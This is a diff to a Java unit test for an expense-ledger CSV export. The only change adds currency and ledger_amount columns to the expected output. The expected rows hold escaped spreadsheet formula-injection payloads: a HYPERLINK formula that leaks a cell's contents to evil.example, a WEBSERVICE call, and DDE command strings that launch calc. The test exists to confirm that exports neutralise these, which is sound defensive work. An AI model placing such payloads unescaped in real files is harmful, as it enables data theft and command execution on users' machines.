@@ -59,13 +59,13 @@ class FormulaExportTest {
         assertThat(export.code()).as(export.err()).isZero();
 
         assertThat(Files.readString(file, StandardCharsets.UTF_8)).isEqualTo(String.join("\r\n",
-                "date,description,amount,category,notes,kind,tags,split",
-                "2026-03-01,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",12.50,,\"'=WEBSERVICE(\"\"http://evil.example\"\")\",expense,,",
-                "2026-03-02,'+cmd|' /C calc'!A0,1.00,'=1+1,,expense,,",
-                "2026-03-03,'@SUM(1+1)*cmd|' /C calc'!A0,99999999999999999.99,,'@note,expense,,",
-                "2026-03-04,'-5 off,0.01,Groceries,'-,expense,,",
-                "2026-03-05,''=1+1,3.00,,'quoted,expense,,",
-                "2026-03-06,Bread,2.40,'=1+1,it's fine,expense,,", ""));
+                "date,description,amount,category,notes,kind,tags,split,currency,ledger_amount",
+                "2026-03-01,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",12.50,,\"'=WEBSERVICE(\"\"http://evil.example\"\")\",expense,,,,",
+                "2026-03-02,'+cmd|' /C calc'!A0,1.00,'=1+1,,expense,,,,",
+                "2026-03-03,'@SUM(1+1)*cmd|' /C calc'!A0,99999999999999999.99,,'@note,expense,,,,",
+                "2026-03-04,'-5 off,0.01,Groceries,'-,expense,,,,",
+                "2026-03-05,''=1+1,3.00,,'quoted,expense,,,,",
+                "2026-03-06,Bread,2.40,'=1+1,it's fine,expense,,,,", ""));
 
         execute(ledger, "delete from expense");
         execute(ledger, "delete from category where id = 50");
